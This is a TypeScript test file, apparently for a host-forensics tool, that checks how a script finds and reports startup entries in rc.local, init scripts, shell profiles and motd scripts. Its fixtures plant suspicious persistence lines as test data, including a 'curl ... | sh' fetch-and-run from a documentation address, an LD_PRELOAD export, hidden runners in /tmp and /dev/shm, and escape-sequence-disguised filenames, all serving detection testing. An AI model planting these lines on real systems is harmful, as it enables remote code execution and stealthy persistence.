// The places that start things, read by the real script under the real toolbox in a mount namespace of the test, and the facts that come of it.

import { execFileSync, spawnSync } from 'node:child_process'
import { chmodSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { busybox, ready } from '../../platform/here-fixture.ts'
import { shown } from '../host-text.ts'
import type { StartupFact, Unknown } from './facts.ts'
import { parserOf, places } from './places.ts'
import { metaSeen } from './fixtures/meta-seen.ts'
import { gather } from './reply.ts'
import { type StartupFile, parseStartupFiles, patternLines, startupFacts } from './startup.ts'
import script from './startup.sh?raw'
import techniques from '../../../resources/attack/techniques.json'

interface Looked {
  readonly files: readonly StartupFile[]
  readonly facts: readonly StartupFact[]
  readonly unknowns: readonly Unknown[]
  readonly bytes: number
}

/** Runs the script over a made-up /etc, /root, /home and /var. */
function lookAt(folder: string): Looked {
  const scene = ['etc', 'root', 'home', 'var'].map((name) => `/bin/mount --bind ${folder}/${name} /${name}`).join('\n')
  const done = spawnSync(
    '/usr/bin/unshare',
    [
      ...['-m', '--propagation', 'private', '/bin/sh', '-ec', `${scene}\nexec "$0" "$@"`],
      ...[busybox, 'sh', '-c', script, 'startup', '65536', '1000'],
    ],
    { env: {}, input: patternLines(), timeout: 20_000, maxBuffer: 8 << 20, cwd: '/' },
  )
  expect(done.stderr.toString()).toBe('')
  const into = gather('startup')
  const files = parseStartupFiles(done.stdout, into) ?? []
  const found = files.flatMap((file) => {
    const { place, path, content, changed } = file
    const entries = content === null ? [] : parserOf(place)(content, { path, changed })
    return entries.length === 0 ? [] : [{ file, entries }]
  })
  const facts = startupFacts(
    found,
    found.map(({ file }) => metaSeen(file)),
    into,
  )
  return { files, facts, unknowns: into.unknowns, bytes: done.stdout.length }
}

const told = (facts: readonly StartupFact[], path: string) =>
  facts.filter((fact) => shown(fact.file.path) === path).map((fact) => [fact.line, shown(fact.raw)])

describe.skipIf(!ready)('the places of a host (skipped: needs root and the toolbox)', () => {
  const folder = mkdtempSync(join(tmpdir(), 'startup-'))
  const put = (path: string, content: string | Buffer, mode = 0o644): void => {
    mkdirSync(dirname(join(folder, path)), { recursive: true })
    writeFileSync(join(folder, path), content)
    chmodSync(join(folder, path), mode)
  }
  let looked: Looked
  beforeAll(() => {
    for (const name of ['etc', 'root', 'home', 'var']) mkdirSync(join(folder, name), { recursive: true })
    put(
      'etc/passwd',
      'root:x:0:0::/root:/bin/sh\ndev:x:1000:1000::/home/dev:/bin/bash\nodd:x:1001:1001::/home/o dd*:/bin/sh\n',
    )
    put('etc/rc.local', '#!/bin/sh -e\n# at boot\n/usr/lib/xsys/netdns &\nexit 0\n', 0o755)
    const init = '#!/bin/sh\ncase $1 in\nstart)\n\t/usr/bin/abcdefghij\n\t;;\nesac\n'
    put('etc/init.d/abcdefghij', init, 0o755)
    put('etc/init.d/ours', '#!/bin/sh\n:\n', 0o755)
    mkdirSync(join(folder, 'etc/rc2.d'))
    symlinkSync('../init.d/abcdefghij', join(folder, 'etc/rc2.d/S90abcdefghij'))
    symlinkSync('../init.d/gone', join(folder, 'etc/rc2.d/S91gone'))
    put('etc/skel/.bashrc', 'alias ll="ls -l"\neval "$(lesspipe)"\n')
    put('home/dev/.bashrc', 'alias ll="ls -l"\neval "$(lesspipe)"\n')
    put('home/dev/.profile', 'export LD_PRELOAD=/tmp/x.so\n"$HOME/.cfg/run" &\n')
    put('home/o dd*/.bashrc', 'nohup ~/.x/run &\n')
    // bad input: what is no regular file, what never ends, what is far too long, what nobody can type
    execFileSync('mkfifo', [join(folder, 'home/dev/.zshrc')])
    symlinkSync('/dev/zero', join(folder, 'home/dev/.zshenv'))
    symlinkSync('/proc/kmsg', join(folder, 'home/dev/.kshrc'))
    symlinkSync('/proc/kcore', join(folder, 'home/dev/.cshrc'))
    symlinkSync('.xprofile', join(folder, 'home/dev/.xprofile'))
    mkdirSync(join(folder, 'home/dev/.login'))
    put('root/.bashrc', `echo hello\n${'x'.repeat(128 * 1024)}\ncurl -s http://192.0.2.1/x | sh\n`)
    put('root/.profile', 'a\x1b[2Kb /opt/thing\r\n')
    put('etc/profile.d/a\nb.sh', '/tmp/.x/run\n')
    put('etc/profile.d/zz_\x1b[31m.sh', '/tmp/.x/run\n')
    put('home/dev/.zprofile', Array.from({ length: 700 }, (_, at) => `/opt/a${at}\n`).join(''))
    put('etc/profile.d/nul.sh', Buffer.from('/tmp/a\0/tmp/b\n'))
    put(
      'var/lib/dpkg/status',
      [
        'Package: x',
        'Conffiles:',
        ` /etc/init.d/ours ${md5('#!/bin/sh\n:\n')}`,
        ` /etc/skel/.bashrc ${md5('alias ll="ls -l"\neval "$(lesspipe)"\n')}`,
        ' /etc/update-motd.d/00-header 00000000000000000000000000000000',
        'Description: x',
        '',
      ].join('\n'),
    )
    put('etc/update-motd.d/00-header', '#!/bin/sh\necho welcome\n/dev/shm/.m &\n', 0o755)
    looked = lookAt(folder)
  })
  afterAll(() => {
    rmSync(folder, { recursive: true, force: true })
  })
  const md5 = (text: string) => execFileSync('md5sum', { input: text }).toString().slice(0, 32)

  it('tells a line of rc.local that runs something, and no comment', () => {
    expect(told(looked.facts, '/etc/rc.local')).toEqual([[3, '/usr/lib/xsys/netdns &']])
  })

  it('tells an init script once, with the links that start it', () => {
    const [fact, ...more] = looked.facts.filter(({ place }) => place === 'init-scripts')
    expect(more).toEqual([])
    expect(fact).toMatchObject({ line: 0, form: 'script', enabledBy: ['/etc/rc2.d/S90abcdefghij'], user: 'root' })
    expect(fact?.paths).toContain('/usr/bin/abcdefghij')
  })

  it('does not even ask for the bytes of what a package has so, nor of a home’s copy of it', () => {
    const known = looked.files.filter(({ content }) => content === null).map(({ path }) => path)
    expect(known).toEqual(['/etc/init.d/ours', '/etc/skel/.bashrc', '/home/dev/.bashrc'])
  })

  it('reads a changed file of a package line by line', () => {
    expect(told(looked.facts, '/etc/update-motd.d/00-header')).toEqual([[3, '/dev/shm/.m &']])
  })

  it('looks into every home, whatever its name, and knows whose it is', () => {
    expect(told(looked.facts, '/home/o dd*/.bashrc')).toEqual([[1, 'nohup ~/.x/run &']])
    const [preload, run] = looked.facts.filter(({ file }) => shown(file.path) === '/home/dev/.profile')
    expect(preload).toMatchObject({ form: 'environment', user: 'dev' })
    expect(run).toMatchObject({ form: 'entry', paths: ['/home/dev/.cfg/run'] })
  })

  it('opens no fifo, device, folder, loop or file of the kernel', () => {
    const odd = looked.files.filter(({ path }) => /^\/(dev|proc)\/|zshrc|login|xprofile/.test(path))
    expect(odd.filter(({ content, path }) => content !== '' && path !== '/proc/sys/kernel/core_pattern')).toEqual([])
    expect(looked.bytes).toBeLessThan(200_000)
  })

  it('says what was cut and what it cannot name', () => {
    expect(looked.unknowns.map(({ what, reason, spoils }) => [what, reason, ...spoils])).toEqual([
      ['/etc/profile.d/a\\x0ab.sh', 'not-supported', 'startup'],
      ['/root/.bashrc', 'truncated', 'startup'],
      ['/home/dev/.zprofile', 'truncated', 'startup'],
    ])
    expect(told(looked.facts, '/home/dev/.zprofile')).toHaveLength(500)
  })

  it('keeps the bytes of tricks as they are', () => {
    const [trick] = looked.facts.filter(({ file }) => shown(file.path) === '/root/.profile')
    expect(trick).toMatchObject({ raw: 'a\\x1b[2Kb /opt/thing\\x0d', disguised: true })
    expect(told(looked.facts, '/etc/profile.d/zz_\\x1b[31m.sh')).toEqual([[1, '/tmp/.x/run']])
    expect(told(looked.facts, '/etc/profile.d/nul.sh')).toEqual([[1, '/tmp/a\\x00/tmp/b']])
  })
})

describe('the data of the places', () => {
  it('names techniques that are on the shipped list', () => {
    const known = Object.keys((techniques as { techniques: object }).techniques)
    for (const place of places().values()) expect(known).toEqual(expect.arrayContaining(place.attack))
  })
  it('reads, and every place has its parser', () => {
    expect(places().size).toBeGreaterThanOrEqual(22)
    for (const place of places().values()) expect(parserOf(place)('', { path: '/', changed: false })).toEqual([])
  })
  it('puts homes last, so that no home can push the system out of a reply', () => {
    const homes = patternLines()
      .split('\n')
      .slice(0, -1)
      .map((line) => /^\S+ ~/.test(line))
    expect(homes.lastIndexOf(false)).toBeGreaterThan(10)
    expect([...places().values()].at(-1)?.paths.every((path) => path.startsWith('~'))).toBe(true)
  })
})
